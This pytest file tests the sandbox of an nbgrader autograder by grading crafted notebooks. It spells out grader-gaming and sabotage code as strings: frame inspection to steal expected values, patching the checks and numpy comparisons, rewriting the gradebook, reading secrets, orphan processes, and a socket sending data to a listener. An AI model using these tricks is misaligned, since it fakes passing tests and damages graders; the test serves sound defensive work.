"""Crafted submissions, graded through the real pipeline: nbgrader autograde with the judge
and its sandbox, then generate_feedback.

Every attack replaces one answer of an otherwise perfect notebook of 02: each attacking
student carries one on sigmoid and a few on other answers (a few more attack the notebook's
structure: metadata, deleted cells, extra files, invalid JSON). The class is graded in three rounds:
an early student, then every attacker, then two late students, so that an attack on
"earlier" or "later" work would show. The tests then check that

- each attack scores 0 on the check it attacks, and every other check as the perfect
  submission does (sigmoid_grad calls sigmoid, so it may fall with it);
- the gradebook's other rows, other submissions, solutions/, the release, the config and
  the installed bplib are unchanged, byte for byte;
- no process outlives its submission, nothing reached a port on this machine, and the
  batch finished within its time caps;
- no feedback page holds hidden test code, a hidden input, an expected value or a secret.
"""
from __future__ import annotations

import ast
import hashlib
import html
import re
import shutil
import socket
import textwrap
import threading
import time
from pathlib import Path

import nbformat
import numpy as np
import pytest

from bplib.grading import EXERCISES, judge, sandbox
from tools import submissions
from tools.course import autograde
from tools.course import nbgrader as run_nbgrader

ROOT = Path(__file__).resolve().parent.parent
ASSIGNMENT = "02-activation-functions"
TIMEOUT = 8  # CPU seconds per cell and per check; a sleeping cell is stopped at 4x this in wall time
MARKER = "bplib-attack-marker-7f3a"
CANARY = "canary-only-in-the-instructors-solutions-91c2"  # written into the scratch course's solutions/
BATCH_CAP = 600  # seconds for grading the whole class

pytestmark = pytest.mark.skipif(sandbox.sandbox_problem() is not None,
                                reason=f"no sandbox here: {sandbox.sandbox_problem()}")


def _solution_answers() -> dict[str, ast.Module]:
    """answer's name -> its solution cell, parsed: what the tests below read of the notebook, so
    that a new exercise in it needs no entry here."""
    solution = nbformat.read(ROOT / "solutions" / ASSIGNMENT / f"{ASSIGNMENT}.ipynb", as_version=4)
    return {submissions.grade_id(c): ast.parse(c.source) for c in solution.cells if submissions.is_answer(c)}


def _callers(answers: dict[str, ast.Module]) -> dict[str, set[str]]:
    """answer -> the other answers whose solution calls it (sigmoid -> sigmoid_grad, ...): an
    attack on an answer may also cost the checks of those, and only of those."""
    callers: dict[str, set[str]] = {name: set() for name in answers}
    for name, tree in answers.items():
        for node in ast.walk(tree):
            if isinstance(node, ast.Call) and isinstance(node.func, ast.Name) and node.func.id in answers:
                if node.func.id != name:
                    callers[node.func.id].add(name)
    for _ in answers:  # and the callers of the callers
        for name in callers:
            callers[name] |= {far for near in callers[name] for far in callers[near]} - {name}
    return callers


ANSWERS = _solution_answers()
DEPENDS = _callers(ANSWERS)
_SIGNATURES = {name: ast.unparse(node.args) for name, tree in ANSWERS.items()  # "x, alpha=0.01"
               for node in tree.body if isinstance(node, ast.FunctionDef) and node.name == name}


def _wrong(name: str, attack: str) -> str:
    """A wrong ``name`` (x / 2), then the attack, whose errors are swallowed."""
    body = textwrap.indent(textwrap.dedent(attack).strip(), "    ")
    return (f"def {name}({_SIGNATURES[name]}):\n    return x * 0.5\n\ntry:\n{body}\n"
            "except BaseException as error:\n    print('attack failed:', type(error).__name__)\n")


def _visible_table() -> str:
    """The visible check's inputs as literals, for a lookup-table attack."""
    cases = EXERCISES["sigmoid"].cases(judge.visible_rng("sigmoid"), False)
    return repr([np.asarray(c.args[0]).tolist() for c in cases])


def attacks(course: Path, port: int) -> dict[str, tuple[str, str, str]]:
    """attack -> (student, answer it replaces, source). Each student carries a sigmoid attack
    and a few more on other answers, so that a class of 17 covers 38 attacks."""
    here = str(course)
    sigmoid = {
        # ---- reading the answers out of the grader
        "frame-expected": ("import sys\n\ndef sigmoid(x):\n    f = sys._getframe(1)\n    while f is not None:\n"
                           "        for key in ('expected', 'want', 'ref'):\n            if key in f.f_locals:\n"
                           "                return f.f_locals[key]\n        f = f.f_back\n    return x"),
        "ctypes-ref": ("import ctypes, sys\n\ndef sigmoid(x):\n    f = sys._getframe(1)\n    while f is not None:\n"
                       "        if 'ref' in f.f_locals:\n            f.f_locals['ref'] = lambda x: x * 0.5\n"
                       "            ctypes.pythonapi.PyFrame_LocalsToFast(ctypes.py_object(f), ctypes.c_int(0))\n"
                       "        f = f.f_back\n    return x * 0.5"),
        "lookup-table": (f"from bplib import activations\nTABLE = {{}}\nfor rows in {_visible_table()}:\n"
                         "    for dtype in (np.float64, np.float32):\n        x = np.array(rows, dtype=dtype)\n"
                         "        TABLE[(x.shape, x.dtype.str, x.tobytes())] = activations.sigmoid(x)\n\n"
                         "def sigmoid(x):\n    key = (np.shape(x), np.asarray(x).dtype.str, np.asarray(x).tobytes())\n"
                         "    return TABLE[key] if key in TABLE else activations.sigmoid(x)"),
        # ---- using the reference, however reached
        "import-reference": "from bplib.activations import sigmoid",
        "wrapper": "import bplib.activations as A\n\ndef sigmoid(x):\n    return A.sigmoid(x)",
        "thread-reference": ("import threading\nimport bplib.activations as A\n\ndef sigmoid(x):\n    out = []\n"
                             "    t = threading.Thread(target=lambda: out.append(A.sigmoid(x)))\n"
                             "    t.start()\n    t.join()\n"
                             "    return out[0] if out else x"),
        "exec-getsource": "import inspect\nimport bplib.activations as A\nexec(inspect.getsource(A.sigmoid))",
        "exec-file": ("import bplib.activations as A\n"
                      "source = open(A.__file__).read().replace('from .', 'from bplib.')\n"
                      "exec(source, globals())"),
        "code-filename": ("import types\nimport bplib.activations as A\n"
                          "code = A.sigmoid.__code__.replace(co_filename='<ipython-input-3-0>')\n"
                          "sigmoid = types.FunctionType(code, vars(A))"),
        # ---- results that pretend
        "always-equal": ("class AlwaysEqual:\n    def __eq__(self, other):\n        return True\n"
                         "    def __ne__(self, other):\n        return False\n\n"
                         "def sigmoid(x):\n    return AlwaysEqual()"),
        "execute-result": "def sigmoid(x):\n    from IPython.display import display\n    display(2.0)\n"
                          "    get_ipython().displayhook(2.0)\n    return x\n\n2.0",
        # ---- hidden inputs out through the feedback
        "leak-hidden": ("import numpy as np\nSEEN = []\n\ndef sigmoid(x):\n    x = np.asarray(x)\n"
                        "    SEEN.append(x.copy())\n"
                        "    if x.shape == (7, 4) or x.ndim == 3:\n"
                        "        values = ','.join(f'{v:.6f}' for v in x.ravel())\n"
                        "        print('LEAK' + values)\n        raise ValueError('LEAK' + values)\n"
                        "    e = np.exp(-np.abs(x))\n    return np.where(x >= 0, 1 / (1 + e), e / (1 + e))"),
    }
    riders = {  # attack -> (the sigmoid attack whose student carries it, answer, source)
        # ---- changing the checks
        "report-passed": ("frame-expected", "relu",
                          _wrong("relu", "grading.Report.passed = property(lambda self: True)")),
        "compare-code": ("ctypes-ref", "relu",
                         _wrong("relu", "grading.compare.close.__code__ = (lambda *a, **k: True).__code__")),
        "empty-cases": ("lookup-table", "relu",
                        _wrong("relu", "for e in grading.EXERCISES.values():\n    e.cases = lambda rng, hidden: []")),
        "exercise-reference": ("lookup-table", "softmax",
                               _wrong("softmax", "grading.EXERCISES['softmax'].reference = softmax")),
        "reference-code": ("import-reference", "relu",
                           _wrong("relu", "import bplib.activations as A\n"
                                          "A.relu.__code__ = (lambda x: x * 0.5).__code__")),
        "ipython-hooks": ("thread-reference", "relu", _wrong("relu", """
            ip = get_ipython()
            for name in list(ip.events.callbacks):
                ip.events.callbacks[name].clear()
            ip.events.register('pre_run_cell', lambda *a: None)
            import types
            grading = types.SimpleNamespace(check=lambda *a, **k: None, start=lambda *a: None,
                                            summary=lambda: None)""")),
        "patch-numpy": ("always-equal", "softmax",
                        _wrong("softmax", "np.allclose = lambda *a, **k: True\n"
                                          "np.testing.assert_allclose = lambda *a, **k: None")),
        # ---- damage to others and to the course
        "gradebook": ("exec-getsource", "relu", _wrong("relu", f"""
            import sqlite3
            for path in ({here + '/gradebook.db'!r}, '../../../gradebook.db', 'gradebook.db'):
                try:
                    db = sqlite3.connect(path)
                    db.execute('update grade set auto_score = 50')
                    db.commit()
                except Exception:
                    pass""")),
        "overwrite-files": ("exec-file", "relu", _wrong("relu", f"""
            import glob, os
            targets = glob.glob({here + '/submitted/*/*/*.ipynb'!r}) + glob.glob({here + '/autograded/*/*/*.ipynb'!r})
            targets += glob.glob({here + '/solutions/*/*.ipynb'!r}) + [{here + '/nbgrader_config.py'!r}]
            targets += [{str(ROOT / 'bplib' / 'grading' / 'report.py')!r}, '../../../nbgrader_config.py']
            for path in targets:
                try:
                    with open(path, 'a') as f:
                        f.write('\\nraise SystemExit  # {MARKER}\\n')
                except Exception:
                    pass""")),
        "read-secrets": ("code-filename", "relu", _wrong("relu", f"""
            import glob
            for path in ([{here + '/.grading_secret'!r}] + glob.glob({here + '/solutions/*/*.ipynb'!r})
                         + glob.glob({here + '/submitted/*/*/*.ipynb'!r})):
                try:
                    print(open(path).read())
                except Exception as error:
                    print('could not read', type(error).__name__)""")),
        "setsid": ("leak-hidden", "relu", _wrong("relu", f"""
            import subprocess, os
            subprocess.Popen(['setsid', 'sh', '-c', 'sleep 120 # {MARKER}'])
            if os.fork() == 0:
                os.setsid()
                os.execvp('sh', ['sh', '-c', 'sleep 120 # {MARKER}'])""")),
        "fork-many": ("execute-result", "relu", _wrong("relu", f"""
            import subprocess
            children = []
            for _ in range(300):
                children.append(subprocess.Popen(['sh', '-c', 'sleep 120 # {MARKER}']))""")),
        "network": ("wrapper", "relu", _wrong("relu", f"""
            import socket
            s = socket.create_connection(('127.0.0.1', {port}), timeout=2)
            s.sendall(b'the hidden tests')""")),
        "output-flood": ("always-equal", "relu", _wrong("relu", "print('x' * 50_000_000)")),
        # ---- breaking its own process, at definition or at check time
        "keyboard-interrupt": ("exec-getsource", "softmax", "def softmax(x, axis=-1):\n    raise KeyboardInterrupt"),
        "system-exit": ("exec-file", "softmax", "def softmax(x, axis=-1):\n    raise SystemExit(0)"),
        "exit-at-check": ("code-filename", "tanh_grad", "import os\n\ndef tanh_grad(x):\n    os._exit(0)"),
        "loop-at-check": ("leak-hidden", "tanh_grad", "def tanh_grad(x):\n    while True:\n        pass"),
        "sleep-forever": ("execute-result", "tanh_grad",
                          "import time\ntime.sleep(10**6)\n\ndef tanh_grad(x):\n    return x"),
        "protocol-junk": ("wrapper", "tanh_grad",
                          ("import os\n\ndef tanh_grad(x):\n    for fd in map(int, os.listdir('/proc/self/fd')):\n"
                           "        try:\n            os.write(fd, b'{\"re\": 1, \"value\": 1}\\nnot json\\n')\n"
                           "        except OSError:\n            pass\n    return x")),
        "memory": ("always-equal", "tanh_grad",
                   "import numpy as np\n\ndef tanh_grad(x):\n"
                   "    big = np.ones((12 << 30) // 8)\n    return x * 0.5 + big[0]"),
        "exit-at-definition": ("always-equal", "leaky_relu", "import os\nos._exit(1)"),
    }
    table = {name: (name, "sigmoid", source) for name, source in sigmoid.items()}
    table.update({name: (student, answer, source) for name, (student, answer, source) in riders.items()})
    return table


def _structure_attacks(student, solution) -> dict[str, object]:
    """Attacks on the notebook's structure rather than its code: student -> notebook."""
    wrong = {"sigmoid": "def sigmoid(x):\n    return x * 0.5"}
    raised = submissions.filled(student, solution, replace=wrong)
    for cell in raised.cells:
        info = cell.metadata.get("nbgrader", {})
        if info.get("grade_id") == "sigmoid":
            info.update(grade=True, points=100)  # the answer cell made a graded cell
        if info.get("grade"):
            info["points"] = 100
        if info.get("grade_id") == "check-sigmoid":
            cell.source = "pass"
    fake_setup = submissions.filled(student, solution, replace=wrong)
    for cell in fake_setup.cells:
        if submissions.grade_id(cell) == "setup":
            del cell.metadata["nbgrader"]
            cell.source = ("import numpy as np\nclass grading:\n    check = staticmethod(lambda *a, **k: None)\n"
                           "    start = check")
    deleted = submissions.filled(student, solution)
    deleted.cells = [c for c in deleted.cells if not submissions.is_check(c) and submissions.grade_id(c) != "setup"]
    return {"metadata-points": raised, "fake-setup": fake_setup, "deleted-cells-correct": deleted,
            "shadow-bplib": submissions.filled(student, solution, replace=wrong)}


STRUCTURE_ATTACKED = {"metadata-points": "sigmoid", "fake-setup": "sigmoid", "shadow-bplib": "sigmoid"}


def _tree_digest(*paths: Path) -> dict[str, str]:
    digest = {}
    for top in paths:
        files = [top] if top.is_file() else sorted(p for p in top.rglob("*")
                                                   if p.is_file() and "__pycache__" not in p.parts)
        for path in files:
            digest[str(path)] = hashlib.sha256(path.read_bytes()).hexdigest()
    return digest


def _marker_processes() -> list[str]:
    found = []
    for proc in Path("/proc").iterdir():
        if proc.name.isdigit():
            try:
                cmdline = (proc / "cmdline").read_bytes().replace(b"\0", b" ").decode(errors="replace")
            except OSError:
                continue
            if MARKER in cmdline and "pytest" not in cmdline:
                found.append(f"{proc.name}: {cmdline}")
    return found


class Listener:
    """A TCP port on 127.0.0.1 that records whatever reaches it."""

    def __init__(self) -> None:
        self.server = socket.socket()
        self.server.bind(("127.0.0.1", 0))
        self.server.listen()
        self.server.settimeout(0.5)
        self.port, self.received, self.running = self.server.getsockname()[1], [], True
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()

    def _serve(self) -> None:
        while self.running:
            try:
                conn, _ = self.server.accept()
            except OSError:
                continue
            self.received.append(conn.recv(1000) or b"(a connection)")
            conn.close()

    def stop(self) -> None:
        self.running = False
        self.thread.join()
        self.server.close()


def nbgrader(*args, cwd):
    return run_nbgrader(*args, cwd=cwd, check=False, capture_output=True, text=True)


@pytest.fixture(scope="module")
def graded(tmp_path_factory):
    course = tmp_path_factory.mktemp("attacked-course")
    shutil.copy(ROOT / "nbgrader_config.py", course)
    shutil.copytree(ROOT / "solutions" / ASSIGNMENT, course / "solutions" / ASSIGNMENT)
    source = course / "solutions" / ASSIGNMENT / f"{ASSIGNMENT}.ipynb"
    instructors = nbformat.read(source, as_version=4)
    answer = next(c for c in instructors.cells if submissions.is_answer(c))
    answer.source = answer.source.replace("### BEGIN SOLUTION", f"### BEGIN SOLUTION\n    # {CANARY}", 1)
    nbformat.write(instructors, source)
    nbgrader("generate_assignment", ASSIGNMENT, "--force", cwd=course)
    student, solution = submissions.load(ASSIGNMENT)  # the repo's solutions: no canary in any answer
    listener = Listener()
    table = attacks(course, listener.port)
    replaced: dict[str, dict[str, str]] = {}
    for student_name, answer, source in table.values():
        replaced.setdefault(student_name, {})[answer] = source
    crafted = {name: submissions.filled(student, solution, replace=answers) for name, answers in replaced.items()}
    crafted.update(_structure_attacks(student, solution))

    def submit(name, nb):
        submissions.write(nb, course / "submitted" / name / ASSIGNMENT / f"{ASSIGNMENT}.ipynb")

    submit("early-perfect", submissions.filled(student, solution))
    flags = [f"--JudgeSubmission.timeout={TIMEOUT}", "--JudgeSubmission.figures=False"]  # figures: see test_pipeline
    quiet = {"capture_output": True}
    assert autograde([ASSIGNMENT, "--jobs", "1", "--timeout", str(TIMEOUT), "--no-figures"], cwd=course, **quiet) == 0
    early = judge_scores(course, "early-perfect")
    for name, nb in crafted.items():
        submit(name, nb)
    shadow = course / "submitted" / "shadow-bplib" / ASSIGNMENT
    (shadow / "bplib" / "grading").mkdir(parents=True)
    (shadow / "bplib" / "__init__.py").write_text("")
    (shadow / "bplib" / "grading" / "__init__.py").write_text("def start(*a): pass\ndef check(*a, **k): pass\n")
    (shadow / "gradebook.db").write_text("not a database")
    (course / "submitted" / "invalid-json" / ASSIGNMENT).mkdir(parents=True)
    (course / "submitted" / "invalid-json" / ASSIGNMENT / f"{ASSIGNMENT}.ipynb").write_text('{"cells": [ not json')
    watched = [course / "solutions", course / "nbgrader_config.py", course / "source", course / "course",
               course / "autograded" / "early-perfect", course / "submitted", ROOT / "bplib",
               ROOT / "nbgrader_config.py"]
    watched = [p for p in watched if p.exists()]
    before = _tree_digest(*watched)

    start = time.monotonic()
    # Four at once on two cores, the early student among them: load must cost no correct answer a point.
    failed = autograde([ASSIGNMENT, "--jobs", "4", "--timeout", str(TIMEOUT), "--force", "--no-figures"],
                       cwd=course, **quiet)
    batch_seconds = time.monotonic() - start
    after_attacks = _tree_digest(*watched)
    early_again = judge_scores(course, "early-perfect")
    submit("late-perfect", submissions.filled(student, solution))
    submit("late-empty", student)
    nbgrader("autograde", ASSIGNMENT, *flags, cwd=course)  # only the two new ones: the others are graded
    nbgrader("generate_feedback", ASSIGNMENT, cwd=course)
    time.sleep(1)  # anything left behind would still be running now
    survivors = _marker_processes()
    listener.stop()
    return {"course": course, "names": list(crafted) + ["invalid-json"], "before": before, "after": after_attacks,
            "early": early, "early_again": early_again, "failed": failed, "seconds": batch_seconds,
            "survivors": survivors, "received": listener.received}


def judge_scores(course: Path, student: str) -> dict[str, float]:
    from nbgrader.api import Gradebook

    with Gradebook(f"sqlite:///{course}/gradebook.db") as gb:
        notebook = gb.find_submission(ASSIGNMENT, student).notebooks[0]
        return {g.name: g.score for g in notebook.grades}


def _attacked() -> dict[str, tuple[str, str]]:
    """attack -> (student, check it attacks)."""
    found = {name: (student, f"check-{answer}") for name, (student, answer, _) in attacks(Path("/x"), 0).items()}
    found.update({name: (name, f"check-{answer}") for name, answer in STRUCTURE_ATTACKED.items()})
    return found


ATTACKED = _attacked()
STUDENTS = sorted({student for student, _ in ATTACKED.values()})


@pytest.mark.parametrize("name", sorted(ATTACKED))
def test_each_attack_scores_zero_on_what_it_attacks(graded, name):
    student, check = ATTACKED[name]
    cells = judge_scores(graded["course"], student)
    assert cells[check] == 0, f"{name} ({student}) scored {cells[check]} on {check}"


@pytest.mark.parametrize("student", STUDENTS)
def test_attacks_change_nothing_else_in_their_own_grade(graded, student):
    cells = judge_scores(graded["course"], student)
    perfect = judge_scores(graded["course"], "late-perfect")
    hit = {check.removeprefix("check-") for s, check in ATTACKED.values() if s == student}
    hit |= {d for h in hit for d in DEPENDS.get(h, ())}
    spared = {k: v for k, v in perfect.items() if k.removeprefix("check-") not in hit}
    assert spared and all(cells[k] == v for k, v in spared.items()), f"{student}: {cells}"


def test_deleted_setup_and_checks_come_back(graded):
    cells = judge_scores(graded["course"], "deleted-cells-correct")
    assert cells == judge_scores(graded["course"], "late-perfect"), "the setup and check cells are the released ones"


def test_metadata_edits_change_nothing(graded):
    from nbgrader.api import Gradebook

    with Gradebook(f"sqlite:///{graded['course']}/gradebook.db") as gb:
        sub = gb.find_submission(ASSIGNMENT, "metadata-points")
        assert sub.max_score == gb.find_submission(ASSIGNMENT, "late-perfect").max_score


def test_other_students_grades_are_untouched(graded):
    """early-perfect, graded alone and again among the attackers four at a time on two cores."""
    assert graded["early"] == graded["early_again"] and sum(graded["early"].values()) > 0
    late = judge_scores(graded["course"], "late-perfect")
    assert late == graded["early"], "a student graded after the attackers still gets full marks"
    assert sum(judge_scores(graded["course"], "late-empty").values()) == 0


def test_course_files_and_installed_bplib_are_byte_identical(graded):
    before, after = graded["before"], graded["after"]
    changed = sorted(k for k in set(before) | set(after) if before.get(k) != after.get(k))
    assert not changed, f"changed while grading the attackers: {changed[:10]}"


def test_no_process_outlives_its_submission(graded):
    assert not graded["survivors"], graded["survivors"]


def test_nothing_reaches_the_network(graded):
    assert not graded["received"], graded["received"]


def test_the_batch_finishes_and_within_its_caps(graded):
    assert graded["failed"] != 0, "nbgrader reports the unreadable notebook"
    graded_ones = {p.parent.name for p in (graded["course"] / "autograded").glob(f"*/{ASSIGNMENT}")}
    assert set(STUDENTS) | {"deleted-cells-correct", "early-perfect"} <= graded_ones, (
        "the batch went on past every attack")
    assert "invalid-json" not in graded_ones
    assert graded["seconds"] < BATCH_CAP


def _feedback_text(course: Path, student: str) -> str:
    page = course / "feedback" / student / ASSIGNMENT / f"{ASSIGNMENT}.html"
    return html.unescape(re.sub(r"<[^>]+>", "", page.read_text()))


def test_feedback_holds_no_hidden_code_input_expected_value_or_secret(graded):
    course = graded["course"]
    secret = (course / judge.SECRET_FILE).read_text().strip()
    released = nbformat.read(course / "solutions" / ASSIGNMENT / f"{ASSIGNMENT}.ipynb", as_version=4)
    hidden_lines = [line.strip() for c in released.cells if "### BEGIN HIDDEN TESTS" in c.source
                    for line in c.source.split("### BEGIN HIDDEN TESTS")[1]
                                        .split("### END HIDDEN TESTS")[0].splitlines()
                    if line.strip()]
    for student in sorted(set(graded["names"]) - {"invalid-json"}) + ["late-perfect", "late-empty"]:
        text = _feedback_text(course, student)
        assert secret not in text, f"{student}'s feedback shows the course secret"
        assert not re.search(r"LEAK-?\d", text), f"{student}'s feedback shows what its code smuggled out"
        for line in hidden_lines + [CANARY]:
            assert line not in text, f"{student}'s feedback shows {line!r}"
        cases = EXERCISES["sigmoid"].cases(judge.hidden_rng(bytes.fromhex(secret), ASSIGNMENT, student, "sigmoid"),
                                           True)
        for case in cases[:2]:
            x = np.asarray(case.args[0], dtype=np.float64)
            shown = [f"{v:.6f}" for v in np.concatenate([x.ravel(), EXERCISES["sigmoid"].reference(x).ravel()])
                     if abs(v) > 1e-3 and abs(v) < 0.999]
            assert not [s for s in shown if s in text], f"{student}'s feedback shows a hidden input or expected value"


def test_feedback_teaches_what_went_wrong(graded):
    assert "bplib's reference implementation" in _feedback_text(graded["course"], "import-reference")
    assert "did not finish" in _feedback_text(graded["course"], "leak-hidden"), "its tanh_grad loops forever"
